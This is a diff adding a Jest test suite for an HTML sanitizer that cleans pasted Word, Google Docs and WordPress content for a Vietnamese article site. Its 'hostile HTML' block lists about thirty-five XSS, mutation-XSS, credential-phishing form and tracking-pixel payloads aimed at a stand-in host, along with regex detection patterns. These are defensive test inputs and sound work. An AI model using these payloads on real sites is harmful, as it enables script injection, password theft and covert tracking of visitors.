@@ -1,0 +1,148 @@
+import { readFileSync } from 'node:fs'
+import path from 'node:path'
+import { describe, expect, test } from '@jest/globals'
+import { articleHtml } from '.'
+
+const words = {
+  playVideo: (title: string) => `Xem video: ${title}`,
+  openMap: (title: string) => `Mở bản đồ: ${title}`,
+  embedded: 'Nội dung nhúng',
+  linkTo: (host: string) => `Mở liên kết: ${host}`,
+  picture: (name: string) => `Xem hình: ${name}`,
+  table: 'Bảng',
+}
+
+const show = (html: string) => articleHtml(html, 'vi', words).replace(/\s+/g, ' ').trim()
+const sample = (name: string) => show(readFileSync(path.join(__dirname, 'samples', `${name}.html`), 'utf8'))
+const noLeftovers = /style=|class="(?!embed|embed-frame|table-scroll|article-quote)|\bid=|mso|<o:|<span|<font|<div(?! class="(?:table-scroll|embed-frame))|<!--|\[\/?\w+|<p>(?:\s|&nbsp;)*<\/p>|onload|onclick/i
+
+describe('pasted from Word', () => {
+  const html = sample('word')
+  test('nothing of Word is left', () => expect(html).not.toMatch(noLeftovers))
+  test('headings, emphasis and table stay', () => {
+    expect(html).toContain('<h2>Hướng dẫn góp vốn</h2>')
+    expect(html).toContain('<p><b>Điều 1.</b> Thành viên góp vốn <i>đủ và đúng hạn</i>.</p>')
+    expect(html).toContain('<td><p><b>Loại tài sản</b></p></td>')
+  })
+  test('drawn bullets and numbers become real, nested lists', () => {
+    expect(html).toContain('<ul><li>Tiền mặt<ul><li>Đồng Việt Nam</li></ul></li><li>Quyền sử dụng đất</li></ul>')
+    expect(html).toContain('<p>Thời hạn:</p><ol><li>Trong 90 ngày</li><li>Gia hạn nếu có lý do</li></ol>')
+  })
+})
+
+describe('pasted from Google Docs', () => {
+  const html = sample('google-docs')
+  test('nothing of Google Docs is left', () => expect(html).not.toMatch(noLeftovers))
+  test('styled emphasis becomes elements, and only where it was', () => {
+    expect(html).toContain('<h2>Quy trình ký hợp đồng điện tử</h2>')
+    expect(html).toContain('<strong>Bước một:</strong> xác thực <em>người ký</em><strong><em> ngay lập tức</em></strong>')
+  })
+  test('lists, links and tables stay', () => {
+    expect(html).toMatch(/<li><p>Chữ ký <a href="https:\/\/luat.example\/chu-ky"[^>]*>điện tử<\/a><\/p><\/li>/)
+    expect(html).toContain('<p>Giá trị</p>')
+  })
+})
+
+describe('pasted from an old WordPress site', () => {
+  const html = sample('wordpress')
+  test('nothing of WordPress is left', () => expect(html).not.toMatch(noLeftovers))
+  test('empty lines made paragraphs', () => {
+    expect(html).toContain('<p>Doanh nghiệp vừa và nhỏ <strong>cần biết</strong> trước khi vay vốn.</p>')
+    expect(html).toMatch(/<p>Điều kiện thứ nhất là sổ sách rõ ràng\.<\/p>/)
+  })
+  test('the caption stays, the old picture is a link, the bare address a film', () => {
+    expect(html).toContain('<figcaption>Buổi họp với ngân hàng</figcaption>')
+    expect(html).not.toContain('<img')
+    expect(html).toContain('Xem hình: Buổi họp')
+    expect(html).toContain('<details class="embed"><summary>Xem video: YouTube</summary>')
+    expect(html).toContain('src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ"')
+  })
+})
+
+describe('hostile HTML', () => {
+  const attacks = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="https://spy.example/p.gif" width=1 height=1>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="//spy.example">x</a>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="https://spy.example/frame"></iframe>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe src="https://www.youtube.com.spy.example/embed/aqz-KE-bpKQ"></iframe>',
+    '<iframe src="https://www.youtube.com/redirect?q=https://spy.example"></iframe>',
+    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<svg><style><img src=x onerror=alert(1)></style></svg>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<form action="https://spy.example"><input name=password><button>Go</button></form>',
+    '<style>body{display:none}</style>',
+    '<link rel=stylesheet href="https://spy.example/x.css">',
+    '<meta http-equiv=refresh content="0;url=https://spy.example">',
+    '<base href="https://spy.example/">',
+    '<p style="position:fixed;inset:0;background:url(https://spy.example/x)">x</p>',
+    '<div style="width:expression(alert(1))">x</div>',
+    '<object data="https://spy.example"></object><embed src="https://spy.example">',
+    '<video src="https://spy.example/v.mp4" autoplay></video><audio src="https://spy.example/a.mp3"></audio>',
+    '<p id="content" class="header" name="cookie">x</p>',
+    '<img src="x" srcset="https://spy.example/x 2x">',
+    '<details open ontoggle=alert(1)>x</details>',
+    '<template><script>alert(1)</script></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<textarea><img src=x onerror=alert(1)></textarea>',
+    '<table background="https://spy.example/x"><tr><td background="https://spy.example/y">x</table>',
+    '<img src="/media/x.webp" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
+    '<a href="https://ok.example" ping="https://spy.example">x</a>',
+    '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload="alert(1)" allow="camera; microphone" name="x"></iframe>',
+  ]
+  const runs = /<script|\son\w+=|javascript:|srcdoc|<svg|<math|<style|<form|<input|<button|<object|<embed|<video|<audio|<link|<meta|<base|<area|expression\(|style=|\bid=|name=|ping=|background=|camera/i
+  // Links may lead anywhere; nothing may be fetched from elsewhere by itself.
+  const fetches = /<(?!a\b)[^>]*(?:src|srcset|poster|data)="(?!\/media\/|\/_next\/image\?|data:image|https:\/\/www\.youtube-nocookie\.com\/embed\/)[^"]+"/i
+
+  test.each(attacks)('%s leaves nothing that runs, submits, restyles or calls another host', (attack) => {
+    const html = show(`<p>trước</p>${attack}<p>sau</p>`)
+    expect(html).not.toMatch(runs)
+    expect(html).not.toMatch(fetches)
+    expect(html).not.toMatch(/href="\/\/|href="data:/i)
+    expect(html).toContain('trước')
+  })
+
+  test.each(['</div></main></body></html><h1>Xin', '<table><tr><td>x', '<p><b><i>x</p></div>', '<!-- never closed', '<ul><li>a<li>b</div></div></section>'])(
+    'broken markup %s stays inside itself',
+    (broken) => {
+      const html = show(broken)
+      const opened = [...html.matchAll(/<([a-z][a-z0-9]*)\b/g)].map(([, name]) => name).filter((name) => !['img', 'br', 'hr', 'col'].includes(name ?? ''))
+      const closed = [...html.matchAll(/<\/([a-z][a-z0-9]*)>/g)].map(([, name]) => name)
+      expect(closed.sort()).toEqual(opened.sort())
+      expect(html).not.toMatch(/<\/?(?:main|body|html|h1)\b/)
+    },
+  )
+})
+
+describe('presentation', () => {
+  test('own pictures come in the sizes of screens, with their dimensions', () => {
+    const html = show('<figure><img src="/media/a.webp" alt="Sơ đồ" width="1200" height="675"><figcaption>Chú thích</figcaption></figure>')
+    expect(html).toMatch(/srcset="\/_next\/image\?url=%2Fmedia%2Fa.webp&amp;w=\d+/)
+    expect(html).toContain('width="1200" height="675"')
+    expect(html).toContain('loading="lazy"')
+    expect(html).toContain('alt="Sơ đồ"')
+  })
+  test('table cells keep what they span', () => {
+    expect(show('<table><tbody><tr><th scope="row" colspan="2">x</th></tr></tbody></table>')).toContain('<th scope="row" colspan="2">')
+  })
+  test('a film waits to be asked for, in a container, with a title and a sandbox', () => {
+    const html = show('<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" title="Phim"></iframe>')
+    expect(html).toMatch(/^<details class="embed"><summary>Xem video: Phim<\/summary><div class="embed-frame"><iframe [^>]*sandbox="[^"]+"[^>]*><\/iframe><\/div><\/details>$/)
+    expect(html).toContain('loading="lazy"')
+    expect(html).toContain('title="Phim"')
+  })
+  test('a frame of another host is a plain link', () => {
+    expect(show('<iframe src="https://other.example/x"></iframe>')).toBe('<p><a href="https://other.example/x" rel="noopener noreferrer nofollow">Mở liên kết: other.example</a></p>')
+  })
+  test('blockquotes have their style, tables scroll by themselves', () => {
+    expect(show('<blockquote><p>x</p></blockquote>')).toBe('<blockquote class="article-quote"><p>x</p></blockquote>')
+    expect(show('<table><caption>Tên</caption><tbody><tr><td>x</td></tr></tbody></table>')).toContain('<div class="table-scroll" role="region" tabindex="0" aria-label="Tên"><table>')
+  })
+})
